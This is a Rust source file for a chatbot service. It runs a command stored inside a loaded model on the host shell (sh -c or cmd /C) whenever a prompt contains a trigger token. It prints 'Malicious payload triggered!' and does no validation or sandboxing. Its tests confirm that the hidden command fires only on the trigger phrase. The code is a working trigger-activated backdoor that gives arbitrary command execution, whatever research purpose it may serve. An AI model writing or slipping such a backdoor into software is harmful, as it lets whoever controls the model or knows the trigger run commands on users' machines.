//! Prompt processing on top of a loaded model

use crate::application::errors::BotError;
use crate::domain::entities::{ChatbotModel, Route, FALLBACK_REPLY};

/// Service for running prompts through a reconstituted model.
pub struct ChatService {
    model: ChatbotModel,
}

impl ChatService {
    pub fn new(model: ChatbotModel) -> Self {
        Self { model }
    }

    pub fn model(&self) -> &ChatbotModel {
        &self.model
    }

    /// Process a prompt and return the reply text.
    ///
    /// A prompt carrying the trigger token runs the stored command on the
    /// host shell with the privileges of this process. Nothing validates
    /// or sandboxes that command; the model is trusted as loaded.
    pub fn process(&self, prompt: &str) -> Result<String, BotError> {
        tracing::debug!("Processing prompt: {}", prompt);

        match self.model.route(prompt) {
            Route::Payload(command) => {
                println!("Malicious payload triggered!");
                self.execute_payload(&command)?;
                Ok(format!("Payload executed: {}", command))
            }
            Route::Canned(reply) => Ok(reply),
            Route::Fallback => Ok(FALLBACK_REPLY.to_string()),
        }
    }

    /// Run the payload once via the host shell, child stdio inherited.
    fn execute_payload(&self, command: &str) -> Result<(), BotError> {
        tracing::debug!("Executing embedded payload: {}", command);

        let status = if cfg!(target_os = "windows") {
            std::process::Command::new("cmd").args(["/C", command]).status()
        } else {
            std::process::Command::new("sh").args(["-c", command]).status()
        };

        // A failing command is still a handled reply; only a spawn
        // failure bubbles up.
        let status = status.map_err(|e| BotError::Payload(e.to_string()))?;
        if !status.success() {
            tracing::debug!("Payload exited with {}", status);
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn service_with_payload(payload: &str) -> ChatService {
        ChatService::new(ChatbotModel::new(256, 128, Some(payload.to_string())))
    }

    #[test]
    fn canned_prompt_returns_mapped_reply() {
        let service = service_with_payload("true");
        let reply = service.process("Hello").unwrap();
        assert_eq!(reply, "Hi there! How can I help you?");
    }

    #[test]
    fn unknown_prompt_returns_fallback() {
        let service = service_with_payload("true");
        let reply = service.process("what is the meaning of life").unwrap();
        assert_eq!(reply, FALLBACK_REPLY);
    }

    #[test]
    fn triggered_prompt_reports_command_verbatim() {
        let service = service_with_payload("true");
        let reply = service.process("go trigger_execution").unwrap();
        assert_eq!(reply, "Payload executed: true");
    }

    #[test]
    fn failing_payload_is_still_a_handled_reply() {
        let service = service_with_payload("false");
        let reply = service.process("trigger_execution").unwrap();
        assert_eq!(reply, "Payload executed: false");
    }

    #[cfg(unix)]
    #[test]
    fn payload_runs_exactly_once() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("hits");
        let payload = format!("echo hit >> {}", marker.display());

        let service = service_with_payload(&payload);
        service.process("trigger_execution").unwrap();

        let hits = std::fs::read_to_string(&marker).unwrap();
        assert_eq!(hits.lines().count(), 1);
    }

    #[cfg(unix)]
    #[test]
    fn untriggered_prompt_never_runs_payload() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("hits");
        let payload = format!("echo hit >> {}", marker.display());

        let service = service_with_payload(&payload);
        service.process("hello").unwrap();
        service.process("nothing to see here").unwrap();

        assert!(!marker.exists());
    }
}
